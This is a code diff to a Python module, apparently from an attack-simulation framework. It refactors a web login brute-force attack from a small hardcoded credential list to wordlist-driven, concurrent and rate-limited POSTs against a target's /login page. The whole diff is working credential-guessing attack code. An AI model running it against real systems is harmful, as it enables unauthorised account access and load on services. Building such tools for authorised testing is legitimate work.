@@ -1,64 +1,69 @@
 """Web Brute Force attack implementation"""
 
-import asyncio
 import aiohttp
 import logging
 from .base_attack import BaseAttack
+from .brute_force import BruteForceEngine, BruteForceSession, credential_stream, resolve_wordlist
 
 logger = logging.getLogger(__name__)
 
 
-class BruteForceWeb(BaseAttack):
-    """Web login brute force attack"""
+class WebLoginSession(BruteForceSession):
+    """Login form POSTs through a shared keep-alive ClientSession"""
     
-    def get_attack_type(self) -> str:
-        return "Brute Force -Web"
+    max_attempts = float('inf')
     
-    def get_default_port(self) -> int:
-        return 80
+    def __init__(self, http: aiohttp.ClientSession, url: str):
+        self.http = http
+        self.url = url
     
-    async def _try_login(self, session, username, password):
-        """Attempt web login"""
-        port = self.target_port or self.get_default_port()
-        url = f"http://{self.target_ip}:{port}/login"
-        
+    async def attempt(self, username: str, password: str):
         data = {
             'username': username,
             'password': password
         }
-        
         try:
-            async with session.post(url, data=data, timeout=5) as response:
+            async with self.http.post(self.url, data=data, timeout=aiohttp.ClientTimeout(total=5)) as response:
                 await response.read()
-                self.packets_sent += 1
-        except Exception:
-            pass
+        except aiohttp.ClientError as e:
+            raise ConnectionError(str(e)) from e
+        return None  # No generic success signal for arbitrary login forms
+
+
+class BruteForceWeb(BaseAttack):
+    """Web login brute force attack"""
+    
+    DEFAULT_PORT = 80
+    INTENSITY_RATES = {'low': 10, 'medium': 50, 'high': 200}
+    DEFAULT_USERNAMES = "web_usernames.txt"
+    DEFAULT_PASSWORDS = "web_passwords.txt"
+    
+    def get_attack_type(self) -> str:
+        return "Brute Force -Web"
     
     async def _execute_attack(self):
         """Execute web brute force"""
-        duration = self.parameters.get('duration', 300)
-        
-        usernames = ['admin', 'user', 'test', 'root', 'administrator']
-        passwords = ['password', '123456', 'admin', 'test', 'password123']
+        port = self.target_port or self.get_default_port()
+        duration = self.parameters.get('duration') or 300
+        concurrency = self.parameters.get('concurrency', 10)
+        url = f"http://{self.target_ip}:{port}/login"
         
         logger.info(f"BruteForce-Web: Starting attack on {self.target_ip}")
         
-        async with aiohttp.ClientSession() as session:
-            start_time = asyncio.get_event_loop().time()
-            
-            while (asyncio.get_event_loop().time() - start_time) < duration:
-                tasks = []
-                for username in usernames:
-                    for password in passwords:
-                        task = self._try_login(session, username, password)
-                        tasks.append(task)
-                
-                await asyncio.gather(*tasks, return_exceptions=True)
-                
-                if self.packets_sent % 100 == 0:
-                    logger.info(f"BruteForce-Web: {self.packets_sent} attempts")
-                
-                await asyncio.sleep(0.5)
+        connector = aiohttp.TCPConnector(limit=concurrency)
+        async with aiohttp.ClientSession(connector=connector) as http:
+            engine = BruteForceEngine(
+                credential_stream(
+                    resolve_wordlist(self.parameters.get('usernames_file', self.DEFAULT_USERNAMES)),
+                    resolve_wordlist(self.parameters.get('passwords_file', self.DEFAULT_PASSWORDS)),
+                    worker_index=self.parameters.get('worker_index', 0),
+                    worker_count=self.parameters.get('worker_count', 1)
+                ),
+                lambda: WebLoginSession(http, url),
+                self.rate,
+                self.record_sent,
+                concurrency=concurrency
+            )
+            await engine.run(duration)
         
-        logger.info(f"BruteForce-Web: Attack complete. Total attempts: {self.packets_sent}")
-
+        logger.info(f"BruteForce-Web: Attack complete. Total attempts: {self.packets_sent} ({engine.get_stats()})")